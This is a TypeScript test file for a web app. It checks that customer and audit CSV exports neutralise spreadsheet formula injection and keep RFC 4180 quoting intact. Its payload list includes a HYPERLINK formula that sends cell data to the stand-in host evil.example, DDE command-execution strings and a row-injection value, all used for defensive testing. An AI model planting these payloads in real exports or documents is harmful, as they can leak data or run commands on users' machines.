import type { INestApplicationContext } from '@nestjs/common';
import type { NestFastifyApplication } from '@nestjs/platform-fastify';
import { DataSource } from 'typeorm';
import { parseCsv } from '../../src/core/csv/csv-parser';
import { createTestApp, createTestWorker } from '../helpers/test-app';
import { waitFor } from '../helpers/wait-for';
import { expectJson, OrgFixture, send } from './support/world';

/*
 * CSV exports open in spreadsheets, which run a cell starting with = + - @ (or a tab or CR before one) as a
 * formula. Every cell of every export must come out as text: such a cell gets a leading apostrophe, and
 * RFC 4180 quoting keeps commas, quotes and line breaks inside their cell. The values get in through the API,
 * through the CSV import (worker), and directly in the database (data from anywhere).
 */

/** A spreadsheet would evaluate a cell starting with one of these. */
const FORMULA_START = /^[=+\-@\t\r]/;

const PAYLOADS = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  '=1+1',
];

/** Leading tab/CR cannot come in through the API (names are trimmed), but stored data may hold them. */
const RAW_PAYLOADS = ['\t=1+1', '\r=1+1', '\t@SUM(A1)'];

function rowsOf(csv: string): Record<string, string>[] {
  const [header, ...records] = parseCsv(csv);
  return records.map((record) => Object.fromEntries(header.map((column, i) => [column, record[i] ?? ''])));
}

function formulaCells(csv: string): string[] {
  return parseCsv(csv)
    .flat()
    .filter((cell) => FORMULA_START.test(cell));
}

describe('CSV formula injection — ASVS 5.0 V1.2.10, RFC 4180; API8:2023 Security Misconfiguration', () => {
  let app: NestFastifyApplication;
  let worker: INestApplicationContext;
  let org: OrgFixture;
  let db: DataSource;
  // A Redis prefix of this spec's own: its worker must not take other specs' jobs, nor theirs this spec's.
  const overrides = { REDIS_KEY_PREFIX: `${process.env.REDIS_KEY_PREFIX ?? 'atrium-test:'}security-csv:` };

  beforeAll(async () => {
    app = await createTestApp(overrides);
    worker = await createTestWorker(overrides);
    db = app.get(DataSource);
    org = await OrgFixture.create(app, 'csv');
  });

  afterAll(async () => {
    await worker.close();
    await app.close();
  });

  const exportCustomers = async (): Promise<string> => {
    const res = await send(app, 'GET', '/api/v1/customers/export', org.owner.accessToken);
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toMatch(/^text\/csv/);
    return res.body;
  };

  it('should neutralise formula triggers in every text column of the customer export (values from the API)', async () => {
    for (const [i, payload] of PAYLOADS.entries()) {
      expectJson(
        await send(app, 'POST', '/api/v1/customers', org.owner.accessToken, {
          json: { name: payload, company: payload, phone: `+44 20 7946 00${i}`, tags: [payload.replace(/[,\s]/g, '')] },
        }),
        201,
        'create customer',
      );
    }
    const csv = await exportCustomers();
    expect(formulaCells(csv)).toEqual([]);
    const rows = rowsOf(csv);
    for (const payload of PAYLOADS) {
      const row = rows.find((r) => r.name === `'${payload}`);
      expect({ payload, found: row !== undefined }).toEqual({ payload, found: true });
      expect(row?.company).toBe(`'${payload}`);
      expect(row?.tags).toBe(`'${payload.replace(/[,\s]/g, '')}`);
    }
    // Phone numbers start with + too: text, not a formula.
    expect(rows.every((r) => !r.phone || r.phone.startsWith("'+"))).toBe(true);
  });

  it('should neutralise a leading tab or carriage return in stored values', async () => {
    for (const payload of RAW_PAYLOADS) {
      const id = await org.customer(null, { name: 'placeholder' });
      await db.query('UPDATE customers SET name = $1, company = $1 WHERE id = $2', [payload, id]);
    }
    const csv = await exportCustomers();
    expect(formulaCells(csv)).toEqual([]);
    const names = rowsOf(csv).map((r) => r.name);
    for (const payload of RAW_PAYLOADS) expect(names).toContain(`'${payload}`);
  });

  it('should neutralise formulas that arrive through a CSV import (worker) on export', async () => {
    const lines = [
      'name,company,tags',
      ...PAYLOADS.map((p, i) => `"Imported ${i} ${p.replace(/"/g, '""')}","${p.replace(/"/g, '""')}",`),
    ];
    // The name column must start with the trigger itself to be a formula.
    lines.push('"=IMPORTED()","@import",');
    const started = expectJson<{ id: string }>(
      await send(app, 'POST', '/api/v1/customers/import', org.owner.accessToken, {
        raw: { payload: `${lines.join('\r\n')}\r\n`, contentType: 'text/csv' },
      }),
      202,
      'import',
    );
    const done = await waitFor(
      async () => {
        const res = await send(app, 'GET', `/api/v1/customers/imports/${started.id}`, org.owner.accessToken);
        const body = res.json<{ status: string; failedRows: number }>();
        return body.status === 'completed' || body.status === 'failed' ? body : undefined;
      },
      { what: 'the import to finish', timeoutMs: 20_000 },
    );
    expect(done).toMatchObject({ status: 'completed', failedRows: 0 });
    const csv = await exportCustomers();
    expect(formulaCells(csv)).toEqual([]);
    const imported = rowsOf(csv).find((r) => r.name === "'=IMPORTED()");
    expect(imported?.company).toBe("'@import");
  });

  it('should neutralise formulas in the audit export (CSV), where user data travels in changes', async () => {
    const res = await send(app, 'GET', '/api/v1/audit-logs/export?format=csv', org.owner.accessToken);
    expect(res.statusCode).toBe(200);
    const csv = res.body;
    expect(csv).toContain('customers.create');
    expect(formulaCells(csv)).toEqual([]);
  });

  it('should keep commas, quotes and line breaks inside their cell (RFC 4180 §2.6, §2.7)', async () => {
    const tricky = 'Evil, Inc."\r\n=1+1,"injected row';
    expectJson(
      await send(app, 'POST', '/api/v1/customers', org.owner.accessToken, {
        json: { name: 'Quoted', company: tricky },
      }),
      201,
      'create',
    );
    const rows = rowsOf(await exportCustomers());
    expect(rows.find((r) => r.name === 'Quoted')?.company).toBe(tricky);
    expect(rows.some((r) => r.name.includes('injected row'))).toBe(false);
  });
});
